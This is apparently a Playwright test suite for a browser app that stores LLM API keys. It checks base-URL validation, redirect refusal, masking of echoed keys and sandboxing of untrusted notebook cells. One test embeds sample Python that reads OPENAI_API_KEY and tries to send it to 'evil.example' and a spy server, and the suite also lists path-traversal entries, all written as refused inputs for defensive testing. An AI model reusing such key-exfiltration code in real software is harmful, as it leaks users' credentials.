// What leaves the page, and what of a key comes back: only to the server that was meant, and masked.
import { KEYS, expect, startSite, test } from './support/app.mjs';
import { startServer } from './support/plain_server.mjs';

test.use({ installs: true });

const KEY = KEYS.openai;

/** What the page's own host is asked to do beyond giving its files. */
function ownHost(page, site) {
  const asked = [];
  page.on('request', (request) => {
    const own = request.url().startsWith(new URL(site.url).origin);
    if (own && (request.method() !== 'GET' || request.url().includes('?k=')))
      asked.push(request.url());
  });
  return asked;
}

async function typeBaseUrl(app, typed) {
  await app.place('Keys').click();
  await app.page.getByRole('textbox', { name: 'OpenAI base URL', exact: true }).fill(typed);
}

test('a base URL that is not quite one is mended or refused, and the own host gets nothing', async ({
  app,
  mocks,
  page,
  site,
}) => {
  await app.open();
  const asked = ownHost(page, site);
  const url = mocks.url('openai');
  const field = page.getByRole('textbox', { name: 'OpenAI base URL', exact: true });
  const card = page.getByRole('region', { name: 'OpenAI', exact: true });
  for (const typed of [`“${url}”`, `\u200b${url}`, `<${url}>`, `[link](${url})`, `*${url}`]) {
    await typeBaseUrl(app, typed);
    await expect(field).toHaveAccessibleDescription(/Read as http:\/\/127\.0\.0\.1/);
    await app.place('Ask').click();
    mocks.script('openai', { text: 'Arrived.' });
    await app.ask('openai');
    await expect(app.answer()).toContainText('Arrived.');
  }
  await expect(card).toHaveCount(0);
  const before = mocks.requests.length;
  await app.page.getByRole('button', { name: 'Edit the question' }).click();
  for (const typed of ['ht tp://127.0.0.1:1', '?x', 'http://gateway.example/v1', `${url}@evil/`]) {
    await typeBaseUrl(app, typed);
    await expect(field).toHaveAttribute('aria-invalid', 'true');
    await app.place('Ask').click();
    await app.run().click();
    await expect(app.alert().first()).toBeVisible();
    await app.idle();
  }
  expect(mocks.requests.length).toBe(before);
  expect(asked).toEqual([]);
});

test('a redirect is not followed: the key goes nowhere else, and the reason is told', async ({
  app,
  page,
}) => {
  const second = await startServer((_, response) => response.end('{}'));
  const first = await startServer((_, response) =>
    response.writeHead(307, { location: `${second.url}/stolen` }).end(),
  );
  await app.open();
  await typeBaseUrl(app, first.url);
  await app.place('Ask').click();
  await app.ask('openai');
  await expect(app.alert().first()).toContainText('redirect');
  expect(first.requests).toHaveLength(1); // and it is not tried again
  expect(second.requests).toEqual([]);
  await typeBaseUrl(app, first.url);
  await page.getByRole('button', { name: /^Fetch the list/ }).click();
  await app.idle();
  expect(second.requests).toEqual([]);
  await Promise.all([first.close(), second.close()]);
});

// Every form a server can hand a key back in, in every field that is shown.
function echoes(key) {
  const bytes = Buffer.from(key);
  const escaped = [...key]
    .map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
    .join('');
  return {
    plain: key,
    url: encodeURIComponent(key).replaceAll('-', '%2D'),
    hex: bytes.toString('hex'),
    base64: bytes.toString('base64'),
    base64_1: Buffer.from(`x${key}`).toString('base64'),
    base64_2: Buffer.from(`xy${key}`).toString('base64'),
    escaped,
  };
}

test('a key that a server echoes is masked in every place, in every form', async ({
  app,
  page,
}) => {
  const forms = echoes(KEY);
  const all = Object.entries(forms)
    .map(([name, form]) => `${name}=${form};`)
    .join(' ');
  const event = (delta) =>
    `data: {"id":"id-${KEY}","model":"m-${KEY}","system_fingerprint":"${KEY}","choices":[{"index":0,"delta":${delta}}]}\n\n`;
  const server = await startServer((request, response) => {
    if (request.url.includes('/models'))
      return response.end(JSON.stringify({ data: [{ id: KEY }] }));
    response.writeHead(200, {
      'content-type': 'text/event-stream',
      'x-request-id': `req-${KEY}`,
      'x-echo': KEY,
    });
    response.write(event(`{"role":"assistant","content":"${all.replaceAll('\n', '')}"}`));
    response.write(event(`{"content":" split=${KEY.slice(0, 9)}"}`));
    response.write(event(`{"content":"${KEY.slice(9)}. The end."}`));
    response.end(
      'data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n',
    );
    return undefined;
  });
  await app.open();
  await typeBaseUrl(app, server.url);
  await app.place('Ask').click();
  await app.ask('openai');
  await expect(app.answer()).toContainText('The end.');
  await app.idle();
  const seen = [await app.text()];
  await app.see('Request & code');
  for (const tab of ['Request', 'Response', 'cURL', 'Python', 'JavaScript']) {
    await page.getByRole('tab', { name: tab, exact: true }).click();
    seen.push(await app.text());
  }
  await app.go('history');
  await app.idle();
  seen.push(await app.text());
  await app.go('keys');
  await page.getByRole('button', { name: /^Fetch the list/ }).click();
  await app.idle();
  seen.push(await app.text());
  seen.push(
    await page.evaluate(async () => {
      const out = [JSON.stringify([{ ...localStorage }, { ...sessionStorage }])];
      for (const { name } of await indexedDB.databases()) {
        const db = await new Promise((resolve) => {
          const open = indexedDB.open(name);
          open.onsuccess = () => resolve(open.result);
        });
        for (const store of db.objectStoreNames) {
          const rows = await new Promise((resolve) => {
            const every = db.transaction(store).objectStore(store).getAll();
            every.onsuccess = () => resolve(every.result);
          });
          out.push(JSON.stringify(rows));
        }
      }
      return out.join('\n');
    }),
  );
  seen.push(app.console.join('\n'));
  expect(server.requests[0].headers.authorization).toBe(`Bearer ${KEY}`);
  for (const [name, form] of Object.entries(forms)) {
    const core = form.slice(6, -6); // of base64 the ends depend on what stands beside it
    for (const [place, text] of seen.entries())
      expect(text.includes(core), `${name} in place ${place}`).toBe(false);
  }
  expect(seen[0]).toContain('split=••••');
  await server.close();
});

// --- cells ---------------------------------------------------------------------------------------

const PACK = (code) => ({
  'class/pack.json': JSON.stringify([
    '01_mine.md',
    '../secret.md',
    'http://127.0.0.1:1/a.md',
    '%2e%2e/b.md',
  ]),
  'class/01_mine.md': `---\nid: mine\ntitle: Mine\nsummary: Of a stranger.\nversion: 1\n---\n\`\`\`python cell=one\n${code}\n\`\`\`\n`,
});

test('cells of a stranger get no key: not to read, not to send to anybody else', async ({
  app,
  mocks,
  page,
}) => {
  const spy = await startServer((_, response) => response.end('ok'));
  const code = [
    'import os, requests',
    'key = os.environ["OPENAI_API_KEY"]',
    'print("seen", key)',
    'def tried(name, *args, **more):',
    '    try:',
    '        print(name, requests.post(*args, **more).status_code)',
    '    except Exception as e:',
    '        print(name, "refused:", e)',
    'auth = {"Authorization": "Bearer " + key}',
    `tried("vendor", "${mocks.url('openai')}/v1/chat/completions", headers=auth, json={"model": "gpt-6-sol", "messages": [{"role": "user", "content": "Hi"}]})`,
    `tried("body", "${mocks.url('openai')}/v1/chat/completions", headers=auth, data=key)`,
    `tried("query", "${mocks.url('openai')}/v1/chat/completions?k=" + key, headers=auth)`,
    `tried("other", "${mocks.url('anthropic')}/v1/messages", headers=auth)`,
    'tried("own", PAGE + "?k=1", headers=auth)',
    'tried("away", "https://evil.example/", headers=auth)',
    `tried("spy", "${spy.url}/x", data="hello")`,
    'print("done")',
  ].join('\n');
  /** @type {Record<string, string>} */
  const files = {};
  const site = await startSite(undefined, 0, files);
  Object.assign(files, PACK(code.replace('PAGE', JSON.stringify(site.url))));
  app.site = site;
  const asked = ownHost(page, site);
  await page.goto(`${site.url}?testing=1&pack=class#learn`);
  await app.idle();
  await expect(page.getByText('Lessons from /some/folder/class/')).toBeVisible();
  await expect(page.getByRole('group', { name: 'Lessons' }).getByRole('button')).toHaveCount(2);
  await app.useMocks();
  await app.place('Keys').click();
  await page.getByRole('textbox', { name: 'OpenAI API key', exact: true }).fill(KEY);
  await app.go('learn');
  await page.getByRole('button', { name: '1. Mine', exact: true }).click();
  await page.getByRole('radio', { name: 'My own keys' }).click();
  await expect(page.getByText('Let these lessons use your keys?')).toBeVisible();
  await page.getByRole('button', { name: 'Use my keys', exact: true }).click();
  await page.getByRole('button', { name: 'Run cell one', exact: true }).click();
  const output = page.getByRole('group', { name: 'Output of one', exact: true });
  await expect(output).toContainText(`send a request to ${spy.url}`);
  expect(spy.requests).toEqual([]);
  await page.getByRole('button', { name: 'Don’t allow' }).click();
  await expect(output).toContainText('done');
  const text = await output.textContent();
  expect(text).toMatch(/seen ••••enai/); // the placeholder, masked as any other
  expect(text).toContain('vendor 200');
  for (const name of ['body', 'query', 'other', 'own', 'away', 'spy'])
    expect(text).toContain(`${name} refused:`);
  expect(spy.requests).toEqual([]);
  expect(asked).toEqual([]);
  const carried = mocks.requests.filter((one) => JSON.stringify(one.headers).includes(KEY));
  expect(carried.map(({ provider }) => provider)).toEqual(['openai']);
  expect(await app.text()).not.toContain(KEY);
  await site.close();
  await spy.close();
});

test('in practice a cell reaches nothing, not even this computer', async ({ app, page }) => {
  const spy = await startServer((_, response) => response.end('ok'));
  await app.open('learn/scratchpad');
  await page
    .getByRole('textbox', { name: 'Code of cell cell', exact: true })
    .fill(`import requests\nrequests.get("${spy.url}/x")`);
  await page.getByRole('button', { name: 'Run cell cell', exact: true }).click();
  await expect(page.getByRole('group', { name: 'Output of cell' })).toContainText(
    'asked for something that this page does not send. Practice reaches no network',
  );
  expect(spy.requests).toEqual([]);
  await spy.close();
});

test('inside another page nothing starts', async ({ page, site }) => {
  const around = await startServer((_, response) =>
    response
      .writeHead(200, { 'content-type': 'text/html' })
      .end(`<iframe src="${site.url}?testing=1#keys" width="900" height="600"></iframe>`),
  );
  await page.goto(around.url);
  const frame = page.frameLocator('iframe');
  await expect(
    frame.getByRole('heading', { name: 'Triptych does not run inside another page' }),
  ).toBeVisible();
  await expect(frame.getByRole('link', { name: 'Open Triptych in its own tab' })).toBeVisible();
  await expect(frame.getByRole('textbox')).toHaveCount(0);
  await around.close();
});
